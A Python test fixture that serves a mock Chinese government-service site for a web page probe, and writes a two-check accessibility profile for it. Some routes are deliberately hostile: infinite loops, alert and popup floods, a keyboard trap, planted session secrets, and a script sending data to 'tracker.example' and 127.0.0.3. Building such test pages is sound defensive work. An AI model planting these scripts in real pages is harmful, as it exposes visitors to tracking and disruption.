"""A small site with well-behaved and hostile pages, and a profile of two checks that opens one of them."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, RedirectResponse, Response, StreamingResponse
from starlette.routing import Route

BODY = """<!doctype html><html lang="zh-CN"><title>某市政务服务</title><meta name=viewport content="width=device-width">
<body><main><h1>某市政务服务</h1><p>第一段正文，电话 13912345678。</p><p>第二段正文。</p>
<button id=small style="width:20px;height:20px">关</button> <button id=big style="width:80px;height:60px">办理</button>
<input id=field><a href="/policy">隐私政策</a></main>%s</body></html>"""

# Where a text can stand besides the plain text of a page.
PLACES = """<p>%s 13900000001</p><div id=host></div><iframe srcdoc="<p>13900000003</p>"></iframe>
<input value=13900000004><textarea>13900000005</textarea><select><option>13900000006</select><input placeholder=13900000007>
<script>host.attachShadow({mode: "open"}).innerHTML = "<p>13900000002</p>";
document.cookie = "sid=very-secret-session; path=/"; localStorage.setItem("k", "very-secret-storage")</script>""" % (
    "长" * 5000
)


def _page(extra: str = "") -> Any:
    return lambda request: HTMLResponse(BODY % extra)


def _many(count: int) -> Iterator[bytes]:
    yield (BODY % "").encode()
    for _ in range(count):
        yield b"<!-- " + b"x" * 1_000_000 + b" -->"


def _elsewhere(request: Request) -> Response:
    return RedirectResponse(f"http://127.0.0.2:{request.url.port}/")


def site() -> Starlette:
    return Starlette(
        routes=[
            Route("/", _page()),
            Route("/json", lambda r: JSONResponse({"error": "not found"}, status_code=404)),
            Route("/api", lambda r: JSONResponse({"title": "某市政务服务"})),
            Route("/login", lambda r: HTMLResponse("<title>登录</title><form><input type=password></form>请先登录")),
            Route("/parked", lambda r: HTMLResponse("<title>域名出售</title><h1>本域名出售</h1>")),
            Route("/away", _elsewhere),
            Route("/loop", lambda r: RedirectResponse("/loop")),
            Route("/spin", _page("<script>onload = () => setTimeout(() => { while (true) {} }, 10)</script>")),
            Route("/alert", _page("<script>for (let i = 0; i < 60; i++) alert(i)</script>")),
            Route("/popups", _page("<script>for (let i = 0; i < 10; i++) window.open('/?' + i)</script>")),
            Route("/huge", lambda r: StreamingResponse(_many(50), media_type="text/html")),
            Route("/file", lambda r: Response(b"x", media_type="application/octet-stream", headers={"content-disposition": "attachment; filename=a.apk"})),
            Route("/leak", _page("<script>fetch('http://tracker.example/?d=1'); navigator.sendBeacon('http://127.0.0.3/b', 'x'); new WebSocket('ws://127.0.0.3/s')</script>")),
            Route("/trap", _page("<script>field.onkeydown = e => { if (e.key === 'Tab') e.preventDefault() }</script>")),
            Route("/denied", _page("<script>navigator.geolocation.getCurrentPosition(() => document.title = 'yes', () => document.title = '某市政务服务 denied')</script>")),
            Route("/hidden-places", _page(PLACES)),
            Route("/endless", _page("<p hidden id=long></p><script>long.textContent = 'x'.repeat(1000001)</script>")),
            Route("/slow", _slow),
        ]
    )  # fmt: skip


async def _slow(request: Request) -> Response:
    import asyncio

    await asyncio.sleep(20)
    return HTMLResponse("late")


PROFILE = """
profile: page-probe
edition: "1.0"
title: {zh: 网页探针的试验, en: trial of the page probe}
standard: {number: TEST 1, title: {zh: 试验, en: trial}, status: draft}
uses: [pages-base]
sources: {T: {what: 试验, read: "2026-11-24"}}
clauses:
  - clause: "1"
    title: 点击区
    provision: requirement
    text: 按钮的点击区不小于 44×44（试验）
    grade: A
    sources: [T]
    checks:
      - check: buttons-are-large-enough
        purpose: 首页的按钮不小于 44×44
        procedure: probing/look.py::buttons_are_large
        calls: [visit]
        requests: 1
        needs: [page:home]
      - check: pictures-have-alternatives
        purpose: 首页的图片有替代文本，链接有名称
        procedure: probing/look.py::links_have_names
        calls: [visit]
        requests: 1
        needs: [page:home]
"""
PROCEDURES = """
from conformance.pages import expect_axe, expect_each, named


def buttons_are_large(check):
    page = named(check, "home")
    buttons = [c for c in page.look.controls if c.tag == "button" and c.shown]
    expect_each(check, page, buttons, lambda c: c.area[2] >= 44 and c.area[3] >= 44, "按钮太小",
                expected="44×44", actual=lambda c: f"{c.area[2]:g}×{c.area[3]:g}")


def links_have_names(check):
    page = named(check, "home", axe=True)
    expect_axe(check, page, ["link-name", "button-name"])
"""


def write(folder: Path) -> Path:
    """The profile and its procedures as a user has them → the file of the profile."""
    (folder / "suites" / "probing").mkdir(parents=True, exist_ok=True)
    (folder / "suites" / "probing" / "look.py").write_text(PROCEDURES, "utf-8")
    path = folder / "page-probe.yaml"
    path.write_text(PROFILE, "utf-8")
    return path


def target(url: str, path: str = "/", **more: Any) -> dict[str, Any]:
    return {
        "target": "site",
        "system": {"name": "试验站"},
        "pages": {"home": {"url": url + path, "marker": "某市政务服务"}},
        "limits": {"timeout": "4s", "total_timeout": "6s"},
        **more,
    }


def written(folder: Path, data: dict[str, Any]) -> Path:
    path = folder / "target.yaml"
    path.write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    return path
